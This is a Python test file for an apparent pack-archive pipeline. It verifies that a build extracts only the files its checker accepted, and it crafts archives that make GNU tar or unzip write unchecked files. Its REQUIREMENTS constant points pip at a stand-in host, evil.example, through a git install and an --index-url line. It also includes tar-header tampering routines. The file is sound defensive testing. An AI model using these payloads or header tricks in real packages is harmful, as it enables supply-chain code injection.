"""One reading of an archive: what the checker accepted is exactly what the build unpacks.

The download stage stores the canonical archive of the members it checked; the build unpacks it
with the project's own extractor (as shipped inside the buildspec). For every archive of the
hostile suite, and for archives that two readers list differently, the files the checker accepted
equal the files the build's extractor writes. GNU tar (and ``python -m zipfile`` / ``unzip``)
serve as witnesses: on crafted originals they write other files than the checker accepted; on the
canonical archive they agree with it.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import lzma
import os
import re
import shutil
import stat
import subprocess
import sys
import tarfile
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from fakes import FakeObjectStore
from test_archive import HOSTILE, MANIFEST, directory, member, tgz, zinfo, zip_bytes

from attune_packs.domain.archive import ArchiveLimits, scan_archive, write_canonical
from attune_packs.errors import ArchiveError
from attune_packs.models import DownloadRequest
from attune_packs.services.stages.download import download_packs
from attune_packs.settings import Settings

GNU_TAR = shutil.which("tar")
UNZIP = shutil.which("unzip")
REQUIREMENTS = b"-e git+https://evil.example/x.git#egg=x\n--index-url https://evil.example/simple\n"


# --- the readers ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def build_extractor(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """The extractor exactly as the buildspec ships it: the build tools decoded from the buildspec
    text, run as the build runs them (``python3 "$TOOLS" extract``)."""
    from attune_packs.buildspec.bundle import buildspec_text

    [blob] = re.findall(r"\n\s*([^\s]+)\n\s*TOOLS\n", buildspec_text())
    shipped = tmp_path_factory.mktemp("shipped") / "build_tools.pyz"
    shipped.write_bytes(lzma.decompress(base64.b85decode(blob)))
    return [sys.executable, str(shipped), "extract"]


def files_under(root: Path) -> list[str]:
    """Regular files under ``root`` as a file system lists them, relative, sorted."""
    found = []
    for folder, _, names in os.walk(root):
        for name in names:
            path = Path(folder, name)
            assert path.is_file() and not path.is_symlink(), path
            found.append(path.relative_to(root).as_posix())
    return sorted(found)


def checked(data: bytes) -> tuple[list[str], str, bytes]:
    """The checker's accepted files (relative to the pack root), the root, and the canonical archive."""
    out = io.BytesIO()
    canonical = write_canonical(io.BytesIO(data), out)
    assert hashlib.sha256(out.getvalue()).hexdigest() == canonical.sha256
    return canonical.checked.file_list, canonical.checked.root, out.getvalue()


def run_build_extractor(extractor: list[str], canonical: bytes, where: Path) -> list[str]:
    digest = hashlib.sha256(canonical).hexdigest()
    archive = where / "pack.archive"
    archive.write_bytes(canonical)
    dest = where / "src"
    dest.mkdir()
    result = subprocess.run(
        [*extractor, str(archive), str(dest), f"s3://packs/archives/sha256/{digest}.tar.gz"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    return files_under(dest)


def witness(data: bytes, where: Path, root: str) -> list[str] | None:
    """What GNU tar (tar.gz) or ``python -m zipfile -e`` writes for the pack root; None if it fails."""
    where.mkdir()
    archive = where / "archive"
    archive.write_bytes(data)
    dest = where / "out"
    dest.mkdir()
    if data[:2] == b"\x1f\x8b":
        if GNU_TAR is None:
            pytest.skip("GNU tar is not installed")
        command = [GNU_TAR, "-xzf", str(archive), "-C", str(dest), "--no-same-owner", "--no-same-permissions"]
    else:
        command = [sys.executable, "-m", "zipfile", "-e", str(archive), str(dest)]
    if subprocess.run(command, capture_output=True, timeout=60).returncode != 0:
        return None
    return files_under(dest / root) if (dest / root).is_dir() else []


# --- archives that two readers list differently ---------------------------------------------------


def _retouched_header(data: bytes, name: bytes, at: int, value: bytes) -> bytes:
    """Overwrite bytes of one tar header (and fix its checksum), as a hostile writer would."""
    out = bytearray(data)
    start = out.index(name)
    assert start % 512 == 0
    out[start + at : start + at + len(value)] = value
    out[start + 148 : start + 156] = b" " * 8
    out[start + 148 : start + 156] = b"%06o\0 " % sum(out[start : start + 512])
    return bytes(out)


def ustar_prefix_in_old_gnu_header() -> bytes:
    """Issue 12: an old-GNU header with bytes where ustar keeps its prefix. Python's tarfile reads
    ``zz/pd/requirements.txt`` (outside the pack root, never checked); GNU tar writes
    ``pd/requirements.txt`` into the pack."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, data in [("pd/pack.yaml", MANIFEST), ("pd/requirements.txt", REQUIREMENTS)]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(_retouched_header(raw.getvalue(), b"pd/requirements.txt", 345, b"zz"), mtime=0)


def zip_folder_flag_without_slash() -> bytes:
    """An entry flagged as a folder (Unix mode S_IFDIR) whose name has no trailing slash: the checker
    reads a folder, ``python -m zipfile -e`` writes a file."""
    return zip_bytes(("pd/pack.yaml", MANIFEST), (zinfo("pd/requirements.txt", mode=stat.S_IFDIR | 0o755), b""))


def nfd_names() -> bytes:
    """A name in NFD: the checker (and the canonical archive) use NFC, a plain extraction keeps NFD."""
    return tgz(member("pack/pack.yaml", MANIFEST), member(unicodedata.normalize("NFD", "pack/café.yaml"), b"a: 1\n"))


DISAGREEING: list[tuple[str, Callable[[], bytes]]] = [
    ("ustar-prefix-in-old-gnu-header", ustar_prefix_in_old_gnu_header),
    ("zip-folder-flag-without-trailing-slash", zip_folder_flag_without_slash),
    ("nfd-names", nfd_names),
]

AGREEING: list[tuple[str, Callable[[], bytes]]] = [
    (
        "pax-path-overrides-the-header-name",
        lambda: tgz(member("pack/pack.yaml", MANIFEST), member("pack/x", b"x", pax={"path": "pack/real.txt"})),
    ),
    ("long-names", lambda: tgz(member("pack/pack.yaml", MANIFEST), member("pack/" + "n" * 90 + "/" + "é" * 60, b"x"))),
    (
        "modes-empty-and-repeated-folders",
        lambda: tgz(
            directory("pack/"),
            member("pack/pack.yaml", MANIFEST),
            member("pack/run.sh", b"#!/bin/sh\n", mode=0o4777),
            directory("pack/empty/"),
            directory("pack/"),
        ),
    ),
    ("dot-slash-names", lambda: tgz(member("./pack.yaml", MANIFEST), member("./actions//a.yaml", b"name: a\n"))),
    ("files-outside-the-root", lambda: tgz(member("pk/pack.yaml", MANIFEST), member("README.md", b"outside"))),
    ("zip-under-a-folder", lambda: zip_bytes(("demo/pack.yaml", MANIFEST), ("demo/actions/a.yaml", b"name: a\n"))),
]


def _ids(cases: list[tuple[str, Callable[[], bytes]]]) -> list[object]:
    return [pytest.param(build, id=name) for name, build in cases]


@pytest.mark.parametrize("build", _ids(DISAGREEING + AGREEING))
def test_the_build_extracts_exactly_the_files_the_checker_accepted(
    build: Callable[[], bytes], build_extractor: list[str], tmp_path: Path
) -> None:
    accepted, _, canonical = checked(build())

    assert run_build_extractor(build_extractor, canonical, tmp_path) == accepted
    assert scan_archive(io.BytesIO(canonical)).file_list == accepted, "the stages read the same list"


@pytest.mark.parametrize("build", _ids(DISAGREEING + AGREEING))
def test_gnu_tar_agrees_with_the_checker_on_the_canonical_archive(build: Callable[[], bytes], tmp_path: Path) -> None:
    accepted, _, canonical = checked(build())

    assert witness(canonical, tmp_path / "canonical", "") == accepted


@pytest.mark.parametrize("build", _ids(DISAGREEING))
def test_a_second_reader_disagrees_with_the_checker_on_the_original(build: Callable[[], bytes], tmp_path: Path) -> None:
    data = build()
    accepted, root, _ = checked(data)

    assert witness(data, tmp_path / "original", root) not in (None, accepted)


def test_the_ustar_prefix_case_keeps_the_unchecked_requirements_out_of_the_build(
    build_extractor: list[str], tmp_path: Path
) -> None:
    data = ustar_prefix_in_old_gnu_header()
    accepted, root, canonical = checked(data)

    assert (root, accepted) == ("pd/", ["pack.yaml"])
    assert witness(data, tmp_path / "gnu", root) == ["pack.yaml", "requirements.txt"], "what GNU tar would build"
    assert run_build_extractor(build_extractor, canonical, tmp_path) == ["pack.yaml"]


@pytest.mark.skipif(UNZIP is None, reason="unzip is not installed")
def test_unzip_also_reads_a_folder_flagged_entry_as_a_file(tmp_path: Path) -> None:
    (tmp_path / "a.zip").write_bytes(zip_folder_flag_without_slash())
    subprocess.run([str(UNZIP), "-qq", str(tmp_path / "a.zip"), "-d", str(tmp_path / "out")], check=False, timeout=60)
    assert checked(zip_folder_flag_without_slash())[0] == ["pack.yaml"]
    assert (tmp_path / "out/pd/requirements.txt").exists()


def test_a_folder_flagged_entry_carrying_data_is_refused_where_a_second_reader_would_write_it(tmp_path: Path) -> None:
    flagged = zinfo("pd/requirements.txt", mode=stat.S_IFDIR | 0o755)
    data = zip_bytes(("pd/pack.yaml", MANIFEST), (flagged, REQUIREMENTS))
    assert witness(data, tmp_path / "zipfile", "pd") == ["pack.yaml", "requirements.txt"]
    with pytest.raises(ArchiveError) as caught:
        checked(data)
    assert caught.value.error_code == "ARCHIVE_CORRUPT"


# --- the hostile suite --------------------------------------------------------------------------


def _hostile() -> list[object]:
    return [pytest.param(build, code, limits, id=name) for name, code, build, limits in HOSTILE]


@pytest.mark.parametrize(("build", "code", "limits"), _hostile())
def test_a_hostile_archive_leaves_the_build_nothing_to_extract(
    build: Callable[[], bytes], code: str, limits: ArchiveLimits | None
) -> None:
    out = io.BytesIO()
    with pytest.raises(ArchiveError) as caught:
        write_canonical(io.BytesIO(build()), out, limits=limits or ArchiveLimits())
    assert caught.value.error_code == code
    assert out.getvalue() == b"", "no canonical archive, so nothing is stored and nothing extracted"


@pytest.mark.parametrize(("build", "code", "limits"), [p for p in _hostile() if p.values[2] is None])  # type: ignore[attr-defined]
def test_a_hostile_upload_is_refused_by_the_download_stage_and_nothing_is_stored(
    build: Callable[[], bytes], code: str, limits: None
) -> None:
    store = FakeObjectStore()
    upload = store.add("uploads/u/pack.tar.gz", build())
    settings = Settings.model_validate({"BUCKET_NAME": "packs"})

    response = download_packs(DownloadRequest(packs=[upload]), store, settings)

    assert [failure.error_code for failure in response.failed_packs] == [code]
    assert set(store.objects) == {"uploads/u/pack.tar.gz"}, "nothing under archives/, envs/ or staging/"


# --- the build's extractor refuses what the canonical writer never writes ---------------------------


def test_the_build_extractor_refuses_an_original_archive_and_a_digest_mismatch(
    build_extractor: list[str], tmp_path: Path
) -> None:
    original = ustar_prefix_in_old_gnu_header()
    _, _, canonical = checked(original)
    for name, data, key, expected in [
        ("original", original, hashlib.sha256(original).hexdigest(), "ARCHIVE_NOT_CANONICAL"),
        ("mismatch", canonical, "0" * 64, "ARCHIVE_DIGEST_MISMATCH"),
    ]:
        (tmp_path / name).mkdir()
        archive, dest = tmp_path / name / "pack.archive", tmp_path / name / "src"
        archive.write_bytes(data)
        dest.mkdir()
        result = subprocess.run(
            [*build_extractor, str(archive), str(dest), key],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert result.returncode != 0 and expected in result.stderr
        assert files_under(dest) == []


def test_the_canonical_archive_is_the_same_for_the_same_members_in_any_format_or_order() -> None:
    files = [("pack/pack.yaml", MANIFEST), ("pack/b.txt", b"b"), ("pack/a/c.txt", b"c")]
    as_tar = tgz(*(member(name, data) for name, data in files))
    as_zip = zip_bytes(*reversed(files))
    _, _, first = checked(as_tar)
    _, _, second = checked(as_zip)
    _, _, again = checked(first)

    assert first == second == again
    with tarfile.open(fileobj=io.BytesIO(first)) as tar:
        members = tar.getmembers()
    assert [m.name for m in members] == ["a", "a/c.txt", "b.txt", "pack.yaml"]
    assert {(m.mtime, m.uid, m.gid, m.uname, m.gname) for m in members} == {(0, 0, 0, "", "")}
    assert first[4:8] == b"\0\0\0\0", "gzip without a timestamp"
